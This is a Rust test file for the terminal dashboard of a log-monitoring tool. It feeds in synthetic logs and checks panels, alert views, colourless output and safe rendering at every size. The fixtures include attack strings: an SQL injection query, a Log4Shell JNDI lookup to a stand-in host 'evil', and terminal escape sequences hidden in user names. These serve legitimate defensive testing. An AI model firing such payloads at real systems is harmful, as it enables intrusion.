//! The dashboard drawn into a test buffer over stores filled by `ingest`
//! from small logs written here: what each panel says, an opened alert's
//! events, the empty store, escape sequences from logs made visible, no
//! colour under `NO_COLOR`, and every size down to nothing drawn without a
//! panic.

use std::path::{Path, PathBuf};

use clap::Parser;
use rampart_store::Store;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::style::{Color, Modifier};
use ratatui::Terminal;

use super::model::{Action, App, Effect, View};
use super::render::{draw, EMPTY};
use super::theme::Theme;
use super::{keys, reload};
use rampart_store::Period;

/// An sshd line at 2025-03-14 03:MM:SS (`s` seconds past 03:00).
fn sshd(s: u32, what: &str) -> String {
    format!(
        "Mar 14 03:{:02}:{:02} web01 sshd[9841]: {what}\n",
        s / 60,
        s % 60
    )
}

/// `n` failed logins of `user` from `ip`, a second apart from `s`.
fn failures(ip: &str, s: u32, n: u32, user: &str) -> String {
    (s..s + n)
        .map(|s| {
            let port = 40000 + s;
            sshd(
                s,
                &format!("Failed password for {user} from {ip} port {port} ssh2"),
            )
        })
        .collect()
}

/// Logs raising eight alerts over 22 events on 2025-03-14: three SSH
/// brute forces (one by a user name holding a screen-clearing escape
/// sequence), a login at 02:30 by a user whose name sets the terminal's
/// title, a scanner and two web attacks, and a new Windows user on dc01.
fn logs(dir: &Path) -> PathBuf {
    let logs = dir.join("logs");
    std::fs::create_dir_all(&logs).unwrap();
    let mut auth = failures("203.0.113.9", 0, 6, "root");
    auth += &failures("198.51.100.4", 100, 7, "root");
    auth += &failures("192.0.2.66", 300, 5, "invalid user \x1b[2Jevil");
    auth += "Mar 14 02:30:00 web01 sshd[9900]: Accepted password for al\x1b]0;owned\x07ice from 192.0.2.10 port 5050 ssh2\n";
    std::fs::write(logs.join("auth.log"), auth).unwrap();
    std::fs::write(
        logs.join("access.log"),
        concat!(
            "203.0.113.50 - - [14/Mar/2025:03:10:00 +0000] \"GET /index.php?id=1%27%20OR%201=1-- HTTP/1.1\" 200 512 \"-\" \"sqlmap/1.7\"\n",
            "203.0.113.51 - - [14/Mar/2025:03:11:00 +0000] \"GET /x?q=${jndi:ldap://evil/a} HTTP/1.1\" 404 12 \"-\" \"curl/8\"\n",
        ),
    )
    .unwrap();
    std::fs::write(
        logs.join("security.jsonl"),
        r#"{"@timestamp":"2025-03-14T03:20:00Z","event":{"code":"4720","provider":"Microsoft-Windows-Security-Auditing"},"host":{"name":"dc01"},"winlog":{"channel":"Security","event_id":"4720","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"dc01","event_data":{"TargetUserName":"backdoor","SubjectUserName":"alice"}},"message":"A user account was created."}"#,
    )
    .unwrap();
    logs
}

/// Runs `rampart ingest` on `path` into `db`, as the command line would.
fn ingest(db: &Path, path: &Path) {
    let (db_arg, path_arg) = (db.to_str().unwrap(), path.to_str().unwrap());
    let argv = [
        "rampart", "--db", db_arg, "ingest", "--year", "2025", "-q", path_arg,
    ];
    let cli = crate::Cli::try_parse_from(argv).unwrap();
    let crate::Command::Ingest(args) = cli.command else {
        unreachable!("ingest parses as ingest")
    };
    crate::commands::ingest::run(&args, db).unwrap();
}

/// A store filled from [`logs`], and the dashboard loaded over it.
fn filled() -> (tempfile::TempDir, Store, App) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("rampart.db");
    ingest(&db, &logs(dir.path()));
    let store = Store::open(&db).unwrap();
    let mut app = App::new(None, None);
    assert!(reload(&store, &mut app));
    (dir, store, app)
}

fn render(app: &mut App, theme: Theme, (width, height): (u16, u16)) -> Buffer {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal.draw(|frame| draw(frame, app, &theme)).unwrap();
    terminal.backend().buffer().clone()
}

/// The screen's text, a line per row.
fn text(buffer: &Buffer) -> String {
    let width = usize::from(buffer.area.width).max(1);
    let rows = buffer.content().chunks(width);
    let lines: Vec<String> = rows
        .map(|row| row.iter().map(|cell| cell.symbol()).collect())
        .collect();
    lines.join("\n")
}

fn shows(screen: &str, what: &[&str]) {
    for w in what {
        assert!(screen.contains(w), "{w:?} is not on the screen:\n{screen}");
    }
}

/// The row of the screen holding `what`.
fn row_of(screen: &str, what: &str) -> usize {
    screen
        .lines()
        .position(|l| l.contains(what))
        .unwrap_or_else(|| panic!("{what:?} is not on the screen:\n{screen}"))
}

/// Selects the listed alert about `about`.
fn select(app: &mut App, about: &str) {
    let rows = &app.data.as_ref().unwrap().newest;
    app.selected = rows.iter().position(|row| row.about == about).unwrap();
}

#[test]
fn at_80_by_24_every_panel_shows_what_the_store_holds() {
    let (_dir, _store, mut app) = filled();
    assert_eq!(
        app.period,
        Some(Period::Everything),
        "logs of 2025 are older than a day"
    );
    let buffer = render(&mut app, Theme::new(true), (80, 24));
    let screen = text(&buffer);
    shows(
        &screen,
        &[
            "rampart  22 events  8 alerts  all data: 2025-03-14 02:00 → 04:00 UTC",
            "alerts by severity",
            "events per hour, at most 21",
            // 60 bars of 2 minutes, two to a column in 54 columns.
            "alerts per 4 min, at most 3",
            "top rules",
            "3 SSH brute force ssh-brute",
            "2 203.0.113.50",
            "1 dc01",
            "newest alerts (8)",
            "03-14 03:20:00 high     open          1 Windows",
            "Windows user account created",
            "? help  q quit  ⏎ open",
        ],
    );
    let high = screen.lines().find(|l| l.contains("│high ")).unwrap();
    assert!(high.contains("      6 ■"), "{high}");
    let medium = screen.lines().find(|l| l.contains("│medium")).unwrap();
    assert!(medium.contains("      1 ■"), "{medium}");
    // The newest alert is the selected row, drawn reversed.
    let y = row_of(&screen, "Windows user account created") as u16;
    assert!(buffer[(40, y)].modifier.contains(Modifier::REVERSED));
    assert_eq!(screen.lines().count(), 24);
}

#[test]
fn a_larger_terminal_lists_every_alert_and_more_of_each_panel() {
    let (_dir, _store, mut app) = filled();
    let screen = text(&render(&mut app, Theme::new(true), (160, 48)));
    shows(
        &screen,
        &[
            "SSH login outside business hours",
            "03-14 02:30:00 medium",
            "Security scanner user agent",
            "1 Windows user account created win-new-user",
            "source.ip=198.51.100.4",
            "host.name=dc01 user.target.name=backdoor",
            // 60 bars of 2 minutes fit as they are.
            "alerts per 2 min, at most 3",
        ],
    );
    // Newest first.
    assert!(row_of(&screen, "03-14 03:11:00") < row_of(&screen, "03-14 03:05:04"));
}

#[test]
fn an_opened_alert_shows_its_events_and_esc_goes_back() {
    let (_dir, store, mut app) = filled();
    select(&mut app, "source.ip=203.0.113.9");
    assert_eq!(app.apply(Action::Open), Effect::Reload);
    assert!(reload(&store, &mut app));
    let screen = text(&render(&mut app, Theme::new(true), (100, 30)));
    shows(
        &screen,
        &[
            "SSH brute force",
            "severity high",
            "status open",
            "rule ssh-brute-force",
            "group source.ip=203.0.113.9",
            "events (6 of 6)",
            "2025-03-14T03:00:00Z  linux.auth  web01  203.0.113.9  root",
            "Failed password for root from 203.0.113.9 port 40000 ssh2",
            "Esc back",
        ],
    );
    // Scrolling stops at the last event.
    app.apply(Action::Last);
    let screen = text(&render(&mut app, Theme::new(true), (100, 16)));
    shows(&screen, &["port 40005 ssh2"]);
    assert!(
        !screen.contains("severity high"),
        "scrolled down:\n{screen}"
    );
    let View::Alert { scroll, .. } = app.view else {
        panic!("the alert is open")
    };
    assert!(scroll > 0 && scroll < 100, "{scroll}");

    assert_eq!(app.apply(Action::Back), Effect::Reload);
    assert!(reload(&store, &mut app));
    let screen = text(&render(&mut app, Theme::new(true), (100, 30)));
    shows(&screen, &["newest alerts (8)"]);
}

#[test]
fn escape_sequences_from_logs_are_shown_not_obeyed() {
    let (_dir, store, mut app) = filled();
    let list = text(&render(&mut app, Theme::new(true), (160, 48)));
    shows(&list, &["user.name=al␛]0;owned␇ice"]);
    select(&mut app, "source.ip=192.0.2.66");
    app.apply(Action::Open);
    assert!(reload(&store, &mut app));
    let opened = render(&mut app, Theme::new(true), (120, 40));
    shows(&text(&opened), &["invalid user ␛[2Jevil from 192.0.2.66"]);
    for screen in [&list, &text(&opened)] {
        assert!(
            !screen.chars().any(|c| c.is_control() && c != '\n'),
            "a control character reached the screen"
        );
    }
}

#[test]
fn an_empty_store_says_how_to_fill_it() {
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("empty.db")).unwrap();
    let mut app = App::new(None, None);
    assert!(reload(&store, &mut app));
    let screen = text(&render(&mut app, Theme::new(true), (80, 24)));
    shows(&screen, &[EMPTY, "? help"]);
    assert!(!screen.contains("newest alerts"));
}

#[test]
fn no_color_leaves_every_cell_uncoloured_and_still_marks_what_matters() {
    let (_dir, store, mut app) = filled();
    let coloured = |buffer: &Buffer| {
        buffer
            .content()
            .iter()
            .filter(|c| c.fg != Color::Reset || c.bg != Color::Reset)
            .count()
    };
    // With colours, there are some.
    assert!(coloured(&render(&mut app, Theme::new(true), (120, 40))) > 0);

    let plain = render(&mut app, Theme::new(false), (120, 40));
    assert_eq!(coloured(&plain), 0);
    // Levels and the selection stand out by their modifiers instead.
    let screen = text(&plain);
    let y = row_of(&screen, "03-14 03:20:00") as u16;
    assert!(plain[(60, y)].modifier.contains(Modifier::REVERSED));
    let high = screen.find("│high ").unwrap();
    let y = screen[..high].matches('\n').count() as u16;
    let x = screen.lines().nth(y.into()).unwrap()[..]
        .find("high")
        .unwrap();
    let x = screen.lines().nth(y.into()).unwrap()[..x].chars().count() as u16;
    assert!(plain[(x, y)].modifier.contains(Modifier::BOLD));

    app.help = true;
    assert_eq!(coloured(&render(&mut app, Theme::new(false), (80, 24))), 0);
    app.help = false;
    app.apply(Action::Open);
    assert!(reload(&store, &mut app));
    assert_eq!(coloured(&render(&mut app, Theme::new(false), (80, 24))), 0);
}

#[test]
fn the_help_lists_every_key() {
    let (_dir, _store, mut app) = filled();
    app.apply(Action::Help);
    let screen = text(&render(&mut app, Theme::new(true), (80, 24)));
    for (key, what) in keys::HELP {
        shows(&screen, &[key, what]);
    }
    app.apply(Action::Back);
    assert!(!app.help);
}

#[test]
fn no_size_panics_and_the_key_line_stays() {
    let (_dir, store, mut app) = filled();
    let small = text(&render(&mut app, Theme::new(true), (20, 5)));
    shows(&small, &["? help"]);
    let empty_dir = tempfile::tempdir().unwrap();
    let empty_store = Store::open(&empty_dir.path().join("e.db")).unwrap();
    let mut empty = App::new(None, None);
    assert!(reload(&empty_store, &mut empty));
    let mut opened = App::new(None, None);
    assert!(reload(&store, &mut opened));
    opened.apply(Action::Open);
    assert!(reload(&store, &mut opened));
    let mut help = App::new(None, None);
    assert!(reload(&store, &mut help));
    help.help = true;
    let widths = (0..=24).chain([30, 40, 49, 50, 60, 80, 81]);
    for width in widths {
        for height in 0..=26 {
            for app in [&mut app, &mut empty, &mut opened, &mut help] {
                render(app, Theme::new(true), (width, height));
            }
        }
    }
}
